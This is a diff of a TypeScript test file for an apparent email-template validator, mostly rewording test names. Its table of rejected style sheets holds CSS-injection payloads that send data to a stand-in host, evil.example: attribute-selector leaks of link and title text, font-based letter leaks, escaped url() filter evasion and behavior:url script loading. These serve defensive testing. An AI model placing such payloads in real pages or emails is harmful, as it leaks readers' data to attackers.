@@ -21,7 +21,7 @@ const problemsOf = async (body: string) =>
     body.slice(problem.from, problem.to),
   ])
 
-test('a newsletter of a design program is taken as it is, byte for byte', async () => {
+test('a newsletter of a design program is accepted and stored byte for byte', async () => {
   expect(NEWSLETTER.length).toBeGreaterThan(12_000)
   const { status, msg, data } = await admin.call(emailTemplates.create, {
     ...FORM,
@@ -36,7 +36,7 @@ test('a newsletter of a design program is taken as it is, byte for byte', async 
   expect(preview.data.rendered?.text).toContain('Towing within the hour')
 })
 
-test('everything that is not allowed is listed at once, each with what would have to go', async () => {
+test('everything that is not allowed is listed at once, each with what must be removed', async () => {
   const wrong = NEWSLETTER.replace(
     '<style type="text/css">',
     `<link rel="stylesheet" href="https://fonts.example/css">\n  ${REFRESH}\n  <style type="text/css">\n    @import url("https://fonts.example/css");\n    .bar { position: fixed; color: red }`,
@@ -59,22 +59,19 @@ test('everything that is not allowed is listed at once, each with what would hav
   ])
 })
 
-describe('a style sheet may not', () => {
+describe('a style sheet must not', () => {
   test.each([
-    [
-      'ask for the letters of a link',
-      'a[href^="https://portal.example.com/a"]{background:url(https://evil.example/a)}',
-    ],
-    ['ask for a text', '[title^="4"]{background:url(https://evil.example/4)}'],
+    ['test the letters of a link', 'a[href^="https://portal.example.com/a"]{background:url(https://evil.example/a)}'],
+    ['test a text', '[title^="4"]{background:url(https://evil.example/4)}'],
     ['load a font: it reveals which letters are shown', '@font-face{font-family:x;src:url(https://evil.example/4)}'],
     ['load a sheet', '@import "https://evil.example/x.css";'],
     ['load a picture over http', 'p{background:url(http://evil.example/a.png)}'],
     ['load a picture from the page', 'p{background:url(/a.png)}'],
-    ['load what is no picture', 'p{cursor:url(https://evil.example/a.cur)}'],
+    ['load a file that is not a picture', 'p{cursor:url(https://evil.example/a.cur)}'],
     ['load by another function', 'p{background:image-set("https://evil.example/a.png" 1x)}'],
-    ['write a letter in another way', 'p{background:u\\72l(https://evil.example/a.png)}'],
-    ['stand over the page', 'p{position:absolute}'],
-    ['run', 'p{behavior:url(https://evil.example/a.htc)}'],
+    ['escape a letter', 'p{background:u\\72l(https://evil.example/a.png)}'],
+    ['overlay the page', 'p{position:absolute}'],
+    ['run a script', 'p{behavior:url(https://evil.example/a.htc)}'],
     ['leave a brace open', '@media screen{p{color:red}'],
     ['leave a text open', "p{font-family:'x;color:red}"],
     ['leave a comment open', 'p{color:red}/* x'],
@@ -82,7 +79,7 @@ describe('a style sheet may not', () => {
     expect(await problemsOf(`<style>${css}</style><p>x</p>`)).not.toEqual([])
   })
 
-  test('take a value', async () => {
+  test('contain a value of a template', async () => {
     const [problem] = await problemsOf('<style>p{color:{{ brand }}}</style><p>x</p>')
     expect(problem?.[0]).toContain('Inside an HTML tag, use a variable alone')
   })
